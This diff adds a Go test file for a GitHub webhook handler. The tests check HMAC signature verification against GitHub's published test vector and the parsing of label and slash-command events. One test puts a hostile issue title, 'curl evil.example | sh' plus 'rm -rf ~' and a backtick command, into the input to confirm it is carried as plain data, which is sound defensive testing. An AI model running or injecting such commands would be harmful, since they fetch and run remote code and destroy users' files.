@@ -1,0 +1,206 @@
+package webhook
+
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/sandstep/sandstep/internal/sandstep"
+)
+
+// GitHub's published test vector for X-Hub-Signature-256.
+func TestVerifyGitHubTestVector(t *testing.T) {
+	secret := []byte("It's a Secret to Everybody")
+	body := []byte("Hello, World!")
+	good := "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17"
+	tests := []struct {
+		name string
+		sig  string
+		code sandstep.Code
+	}{
+		{"GitHub's vector", good, ""},
+		{"missing", "", sandstep.EUNAUTHENTICATED},
+		{"sha1 scheme", "sha1=01dc10d0c83e72ed246219cdd91669667fe2ca59", sandstep.EUNAUTHENTICATED},
+		{"one digit changed", good[:len(good)-1] + "f", sandstep.EUNAUTHENTICATED},
+		{"not hex", "sha256=zz", sandstep.EUNAUTHENTICATED},
+		{"upper-case scheme", strings.ToUpper(good[:6]) + good[6:], sandstep.EUNAUTHENTICATED},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := sandstep.ErrorCode(Verify(secret, body, tt.sig)); got != tt.code {
+				t.Errorf("Verify = %q, want %q", got, tt.code)
+			}
+		})
+	}
+	if sandstep.ErrorCode(Verify([]byte("another secret"), body, good)) != sandstep.EUNAUTHENTICATED {
+		t.Error("a signature under another secret was accepted")
+	}
+	if sandstep.ErrorCode(Verify(nil, body, good)) != sandstep.EINTERNAL {
+		t.Error("no secret configured must be refused as a misconfiguration")
+	}
+}
+
+// examplesPath is GitHub's example payloads (npm @octokit/webhooks-examples,
+// installed by make webhook-examples from testdata's lockfile).
+const examplesPath = "testdata/node_modules/@octokit/webhooks-examples/api.github.com/index.json"
+
+// examples returns GitHub's example payloads of event, by action.
+func examples(t *testing.T, event string) map[string][]json.RawMessage {
+	t.Helper()
+	data, err := os.ReadFile(filepath.FromSlash(examplesPath))
+	if err != nil {
+		if os.Getenv("SANDSTEP_REQUIRE_NODE") != "" {
+			t.Fatalf("GitHub's example payloads are needed (make webhook-examples): %v", err)
+		}
+		t.Skipf("GitHub's example payloads are not installed (make webhook-examples): %v", err)
+	}
+	var all []struct {
+		Name     string            `json:"name"`
+		Examples []json.RawMessage `json:"examples"`
+	}
+	if err := json.Unmarshal(data, &all); err != nil {
+		t.Fatal(err)
+	}
+	out := map[string][]json.RawMessage{}
+	for _, e := range all {
+		if e.Name != event {
+			continue
+		}
+		for _, ex := range e.Examples {
+			var a struct {
+				Action string `json:"action"`
+			}
+			_ = json.Unmarshal(ex, &a)
+			out[a.Action] = append(out[a.Action], ex)
+		}
+	}
+	if len(out) == 0 {
+		t.Fatalf("no %s examples", event)
+	}
+	return out
+}
+
+// edit returns payload with fn applied to it as a JSON map.
+func edit(t *testing.T, payload json.RawMessage, fn func(m map[string]any)) []byte {
+	t.Helper()
+	var m map[string]any
+	if err := json.Unmarshal(payload, &m); err != nil {
+		t.Fatal(err)
+	}
+	fn(m)
+	out, err := json.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+func obj(m map[string]any, key string) map[string]any {
+	v, _ := m[key].(map[string]any)
+	return v
+}
+
+var triggers = Triggers{Label: "sandstep", Command: "/sandstep"}
+
+func TestParseGitHubExamples(t *testing.T) {
+	issues := examples(t, "issues")
+	comments := examples(t, "issue_comment")
+	labelled := issues["labeled"][0]
+	unlabelled := issues["unlabeled"][0]
+	created := comments["created"][0]
+	withLabel := func(name string) func(m map[string]any) {
+		return func(m map[string]any) { obj(m, "label")["name"] = name }
+	}
+	asBot := func(m map[string]any) {
+		obj(m, "sender")["type"] = "Bot"
+		obj(m, "sender")["login"] = "sandstep[bot]"
+	}
+	withComment := func(body string) func(m map[string]any) {
+		return func(m map[string]any) {
+			obj(m, "comment")["body"] = body
+			delete(obj(m, "issue"), "pull_request")
+			obj(obj(m, "comment"), "user")["type"] = "User"
+			obj(m, "sender")["type"] = "User"
+		}
+	}
+	ping := examples(t, "ping")[""][0]
+	tests := []struct {
+		name, event string
+		body        []byte
+		want        Kind
+		byComment   bool
+	}{
+		{"ping", "ping", ping, KindPing, false},
+		{"the label added", "issues", edit(t, labelled, withLabel("sandstep")), KindStart, false},
+		{"another label", "issues", edit(t, labelled, withLabel("bug")), KindIgnore, false},
+		{"the label removed", "issues", edit(t, unlabelled, withLabel("sandstep")), KindCancel, false},
+		{"labelled by a bot", "issues", edit(t, labelled, func(m map[string]any) { withLabel("sandstep")(m); asBot(m) }), KindIgnore, false},
+		{"issue opened", "issues", issues["opened"][0], KindIgnore, false},
+		{"a command", "issue_comment", edit(t, created, withComment("/sandstep please fix")), KindStart, true},
+		{"the bare command", "issue_comment", edit(t, created, withComment("/sandstep")), KindStart, true},
+		{"cancel", "issue_comment", edit(t, created, withComment("/sandstep cancel")), KindCancel, true},
+		{"a longer word", "issue_comment", edit(t, created, withComment("/sandstepper go")), KindIgnore, false},
+		{"not a command", "issue_comment", edit(t, created, withComment("thanks! /sandstep")), KindIgnore, false},
+		{"a command by a bot", "issue_comment", edit(t, created, func(m map[string]any) { withComment("/sandstep")(m); asBot(m) }), KindIgnore, false},
+		{"on a pull request", "issue_comment", edit(t, created, func(m map[string]any) {
+			withComment("/sandstep")(m)
+			obj(m, "issue")["pull_request"] = map[string]any{"url": "https://api.github.com/repos/o/r/pulls/1"}
+		}), KindIgnore, false},
+		{"a comment edited", "issue_comment", comments["edited"][0], KindIgnore, false},
+		{"push", "push", examples(t, "push")[""][0], KindIgnore, false},
+		{"an event go-github does not know", "sponsorship_x", []byte(`{}`), KindIgnore, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			ev, err := Parse(tt.event, tt.body, triggers)
+			if err != nil {
+				t.Fatalf("Parse: %v", err)
+			}
+			if ev.Kind != tt.want || ev.ByComment != tt.byComment {
+				t.Fatalf("kind %s (byComment %v, why %q), want %s (%v)", ev.Kind, ev.ByComment, ev.Why, tt.want, tt.byComment)
+			}
+			if ev.Kind == KindStart || ev.Kind == KindCancel {
+				if ev.Repo == "" || !strings.Contains(ev.Repo, "/") || ev.Issue == 0 || ev.Sender == "" {
+					t.Errorf("event %+v lacks its repository, issue or sender", ev)
+				}
+			}
+		})
+	}
+}
+
+func TestParseMalformed(t *testing.T) {
+	_, err := Parse("issues", []byte(`{"action": `), triggers)
+	if sandstep.ErrorCode(err) != sandstep.EINVALID {
+		t.Errorf("malformed payload: %v, want invalid_input", err)
+	}
+}
+
+// The issue's title and body are carried as data, whatever they hold.
+func TestParseKeepsHostileTextAsData(t *testing.T) {
+	labelled := examples(t, "issues")["labeled"][0]
+	title := `"; curl evil.example | sh; echo "$(rm -rf ~)` + "`id`"
+	body := edit(t, labelled, func(m map[string]any) {
+		obj(m, "label")["name"] = "sandstep"
+		obj(m, "issue")["title"] = title
+	})
+	ev, err := Parse("issues", body, triggers)
+	if err != nil || ev.Title != title {
+		t.Fatalf("title %q, %v; want it as sent", ev.Title, err)
+	}
+}
+
+func ExampleVerify() {
+	secret := []byte("It's a Secret to Everybody")
+	body := []byte("Hello, World!")
+	mac := hmac.New(sha256.New, secret)
+	mac.Write(body)
+	err := Verify(secret, body, "sha256="+hex.EncodeToString(mac.Sum(nil)))
+	fmt.Println(err == nil)
+	// Output: true
+}
